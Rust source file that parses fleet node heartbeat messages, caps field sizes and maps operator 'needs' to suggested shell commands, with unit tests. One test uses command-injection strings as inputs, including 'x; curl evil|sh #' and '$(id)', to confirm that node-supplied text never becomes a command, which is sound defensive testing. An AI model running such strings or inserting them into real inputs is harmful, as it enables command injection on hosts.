// This Source Code Form is subject to the terms of the Mozilla Public
// License, v. 2.0. If a copy of the MPL was not distributed with this
// file, You can obtain one at https://mozilla.org/MPL/2.0/.

//! What a node says about itself with each heartbeat: who publishes it, its programs, what needs a person. Pure.

use serde::{Deserialize, Serialize};

use super::believed::{Fields, short};
use super::message::{Position, is_uuid};
use crate::shown::{ShownCommand, program};

/// A program that publishes a node.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Claim {
    /// This start of it.
    pub instance: String,
    /// The state directory that it runs on: another one is another machine.
    pub machine: String,
    /// The name of the machine.
    pub hostname: Option<String>,
    /// Its version.
    pub version: String,
}

/// The entry of a node in the bucket `NODES`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Node {
    /// The node.
    pub cn_uuid: String,
    /// Who publishes it.
    pub claim: Claim,
    /// Another program that also says to be this node, and publishes nothing.
    #[serde(default)]
    pub rival: Option<Claim>,
    /// The time between heartbeats, in seconds.
    pub every_s: u64,
    /// The last event that is published; none while the node is being compared.
    pub position: Option<Position>,
    /// How many VMs the node has, as far as it is published.
    pub vms: u64,
    /// What the agent waits for, in words; none: nothing.
    pub waits: Option<String>,
    /// Its programs.
    #[serde(default)]
    pub programs: Vec<Program>,
    /// What needs a person.
    #[serde(default)]
    pub needs: Vec<Need>,
    /// How many fields of its heartbeat are not believed: they are of another type, or say that it is another node.
    #[serde(skip)]
    pub left_out: usize,
}

/// The most programs and needs of a node, the longest name and text of them, and the longest time between heartbeats.
const MOST: usize = 32;
const NAME: usize = 64;
const TEXT: usize = 300;
const RAREST: u64 = 3600;

impl Node {
    /// Reads the heartbeat under a subject (`$KV.NODES.CN`). Whose it is the subject says, to which the node's key alone
    /// may publish, and never the body. What cannot be believed is left out and counted. None where the subject is no
    /// node's.
    pub fn read(subject: &str, body: &[u8]) -> Option<Node> {
        let cn = subject.rsplit('.').next().filter(|cn| is_uuid(cn))?;
        let mut fields = Fields::of(body);
        let is_other = fields.take::<String>("cn_uuid").is_some_and(|it| it != cn);
        fields.left_out += usize::from(is_other);
        let claim: Option<Claim> = fields.take("claim");
        let rival: Option<Claim> = fields.take("rival");
        let every_s = fields.take("every_s").unwrap_or(RAREST).clamp(1, RAREST);
        let (position, vms) = (fields.take("position"), fields.take("vms").unwrap_or_default());
        let waits: Option<String> = fields.take("waits");
        let mut programs: Vec<Program> = fields.list("programs", MOST);
        let mut needs: Vec<Need> = fields.list("needs", MOST);
        for it in &mut programs {
            it.name = short(std::mem::take(&mut it.name), NAME);
            it.version = it.version.take().map(|version| short(version, NAME));
        }
        for it in &mut needs {
            it.program = short(std::mem::take(&mut it.program), NAME);
            it.text = short(std::mem::take(&mut it.text), TEXT);
            if let What::Other(name) = &mut it.what {
                *name = short(std::mem::take(name), NAME);
            }
        }
        let claim = claim.unwrap_or_else(|| Claim {
            instance: String::new(),
            machine: String::new(),
            hostname: None,
            version: String::new(),
        });
        Some(Node {
            cn_uuid: cn.to_owned(),
            claim: claim.cut(),
            rival: rival.map(Claim::cut),
            every_s,
            position,
            vms,
            waits: waits.map(|it| short(it, TEXT)),
            programs,
            needs,
            left_out: fields.left_out,
        })
    }

    /// Returns the name of the machine, if a host may be called so; otherwise the node's uuid.
    pub fn name(&self) -> &str {
        let name = self.claim.hostname.as_deref();
        name.filter(|name| crate::shown::is_host_name(name)).unwrap_or(&self.cn_uuid)
    }
}

impl Claim {
    fn cut(self) -> Claim {
        Claim {
            instance: short(self.instance, NAME),
            machine: short(self.machine, NAME),
            hostname: self.hostname.map(|it| short(it, NAME)),
            version: short(self.version, NAME),
        }
    }
}

/// A program of the node.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Program {
    /// Its name.
    pub name: String,
    /// Its version; none while it does not answer.
    pub version: Option<String>,
    /// The holds in force.
    #[serde(default)]
    pub holds: u64,
}

/// What is typed on a node that is not heard.
pub const NOT_HEARD: &str = "svcs -xv fleet-agent";

/// Something that needs a person.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Need {
    /// The program that says so.
    pub program: String,
    /// What it is.
    pub what: What,
    /// In words.
    pub text: String,
}

/// What needs a person.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum What {
    /// Two programs say to be this node.
    Claimed,
    /// A brake blocks what a program would do.
    Brake,
    /// A program does not answer.
    Down,
    /// It cannot keep what must outlive it.
    Memory,
    /// It writes nothing, though it is on.
    Mute,
    /// vminfod cannot read all of the node.
    Incomplete,
    /// One that this version does not know.
    #[serde(untagged)]
    Other(String),
}

impl What {
    /// Returns its name.
    pub fn name(&self) -> &str {
        match self {
            What::Claimed => "claimed",
            What::Brake => "brake",
            What::Down => "down",
            What::Memory => "memory",
            What::Mute => "mute",
            What::Incomplete => "incomplete",
            What::Other(name) => name,
        }
    }
}

impl Need {
    /// Returns the command that helps, to be typed on the node. What names none of our programs is looked at where it
    /// was told.
    pub fn command(&self) -> ShownCommand {
        let Some(program) = program(&self.program) else {
            return ShownCommand::of("fleet-agent status");
        };
        let words = match self.what {
            What::Claimed => "sysinfo | json UUID",
            What::Brake => "PROGRAM plan",
            What::Down => "svcs -xv PROGRAM",
            What::Memory => "svcs -L PROGRAM",
            What::Incomplete => "PROGRAM status --full",
            What::Mute | What::Other(_) => "PROGRAM status",
        };
        ShownCommand::about(words, &[("PROGRAM", program)])
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const CN: &str = "564d0b8e-6099-7648-351e-877faf6c56f6";

    fn beat(body: &serde_json::Value) -> Node {
        Node::read(&format!("$KV.NODES.{CN}"), body.to_string().as_bytes()).unwrap()
    }

    #[test] // N36
    fn a_heartbeat_is_the_key_s_node_whatever_its_body_says() {
        let body = serde_json::json!({"cn_uuid": "0b4a4a3e-8b7c-4a09-9c3e-2a5d8f5e0c11", "every_s": 5, "vms": 3,
            "claim": {"instance": "i", "machine": "m", "hostname": "cn0", "version": "1"}});
        let node = beat(&body);
        assert_eq!((node.cn_uuid.as_str(), node.left_out, node.name()), (CN, 1, "cn0"));
        for subject in ["$KV.NODES.", "$KV.NODES.cn0", "$KV.NODES.*"] {
            assert_eq!(Node::read(subject, b"{}"), None, "{subject}");
        }
    }

    #[test] // N37
    fn each_field_of_a_heartbeat_that_is_of_another_type_is_left_out_alone() {
        let whole = serde_json::json!({"cn_uuid": CN, "every_s": 5, "vms": 3, "waits": "w",
            "position": {"epoch": "e", "seq": 1}, "rival": null,
            "claim": {"instance": "i", "machine": "m", "hostname": "cn0", "version": "1"},
            "programs": [{"name": "net-agent", "version": "1", "holds": 2}],
            "needs": [{"program": "net-agent", "what": "brake", "text": "t"}]});
        let good = beat(&whole);
        assert_eq!((good.left_out, good.needs.len(), good.programs.len()), (0, 1, 1));
        for field in whole.as_object().unwrap().keys() {
            for odd in
                [serde_json::json!({"a": [1]}), serde_json::json!([[]]), serde_json::json!(-1)]
            {
                let mut body = whole.clone();
                body[field] = odd.clone();
                let node = beat(&body);
                assert_eq!(node.left_out, 1, "{field} {odd}");
                assert_eq!(node.cn_uuid, CN);
            }
        }
        let node = Node::read(&format!("$KV.NODES.{CN}"), b"nonsense").unwrap();
        assert_eq!((node.left_out, node.name()), (1, CN));
        let mut body = whole;
        body["every_s"] = u64::MAX.into();
        body["needs"] = (0..500).map(|_| serde_json::json!({"program": "x".repeat(9000), "what": "y".repeat(9000), "text": "z".repeat(9000)})).collect();
        let node = beat(&body);
        assert_eq!((node.every_s, node.needs.len(), node.left_out), (RAREST, MOST, 500 - MOST));
        assert!(serde_json::to_string(&node).unwrap().len() < 30_000);
    }

    #[test] // N38
    fn no_text_of_a_node_becomes_a_command_or_a_name_in_a_link() {
        for program in ["x; curl evil|sh #", "$(id)", "net-agent; id", "-x", ""] {
            for what in [What::Brake, What::Down, What::Memory, What::Incomplete, What::Mute] {
                let need = Need { program: program.into(), what, text: String::new() };
                assert_eq!(need.command().to_string(), "fleet-agent status", "{program}");
            }
        }
        let body = serde_json::json!({"claim": {"instance": "i", "machine": "m", "version": "1",
            "hostname": "evil/path?x=$(id)"}});
        assert_eq!(beat(&body).name(), CN);
    }

    #[test]
    fn a_need_of_a_later_version_keeps_its_name() {
        let need: Need =
            serde_json::from_str(r#"{"program": "net-agent", "what": "flooded", "text": "t"}"#)
                .unwrap();
        assert_eq!(need.what.name(), "flooded");
        assert_eq!(need.command().to_string(), "net-agent status");
        let known: What = serde_json::from_str("\"brake\"").unwrap();
        assert_eq!(known, What::Brake);
        assert_eq!(serde_json::to_string(&What::Claimed).unwrap(), "\"claimed\"");
    }
}
